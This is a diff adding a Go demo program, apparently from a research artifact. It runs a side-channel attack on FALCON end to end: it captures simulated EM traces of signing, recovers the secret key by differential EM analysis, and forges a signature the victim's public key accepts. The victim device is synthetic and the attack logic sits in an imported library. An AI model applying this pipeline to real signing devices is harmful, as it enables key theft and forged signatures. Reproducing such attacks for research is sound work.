@@ -1,0 +1,65 @@
+// Keyrecovery demonstrates the paper's full break end to end:
+//
+//  1. a victim generates a FALCON key and signs away while a synthetic EM
+//     probe captures the floating-point multiplications FFT(c)⊙FFT(f);
+//  2. the adversary runs the divide-and-conquer, extend-and-prune DEMA to
+//     reconstruct every 64-bit coefficient of FFT(f);
+//  3. the FFT is inverted to f, g is derived from the public key, the
+//     NTRU equation is re-solved for (F, G);
+//  4. the reconstructed key forges a signature on a message the victim
+//     never saw, and the victim's own public key accepts it.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"falcondown"
+)
+
+func main() {
+	const (
+		degree = 16 // small degree keeps the demo fast; the attack is per-coefficient and degree-agnostic
+		traces = 1500
+		noise  = 2.0
+	)
+
+	fmt.Printf("victim: generating FALCON-%d key...\n", degree)
+	priv, pub, err := falcondown.GenerateKey(degree, falcondown.NewRNG(42))
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	fmt.Printf("adversary: capturing %d EM traces of the signing multiplication (noise σ=%.1f)...\n", traces, noise)
+	dev := falcondown.NewVictimDevice(priv, falcondown.Probe{Gain: 1, NoiseSigma: noise}, 43)
+	obs, err := falcondown.CollectTraces(dev, traces, 44)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	fmt.Println("adversary: running extend-and-prune key extraction...")
+	recovered, report, err := falcondown.RecoverKey(obs, pub, falcondown.AttackConfig{})
+	if err != nil {
+		log.Fatal("recovery failed: ", err)
+	}
+	fmt.Printf("  %d values extracted, weakest prune correlation %.3f\n",
+		len(report.Values), report.MinPrune)
+
+	exact := true
+	for i := range recovered.Fs {
+		if recovered.Fs[i] != priv.Fs[i] {
+			exact = false
+		}
+	}
+	fmt.Printf("  recovered f matches the victim's secret exactly: %v\n", exact)
+
+	msg := []byte("transfer all funds — signed, allegedly, by the victim")
+	sig, err := recovered.Sign(msg, falcondown.NewRNG(7))
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := pub.Verify(msg, sig); err != nil {
+		log.Fatal("forged signature rejected: ", err)
+	}
+	fmt.Println("forged signature ACCEPTED by the victim's public key — FALCON is down.")
+}
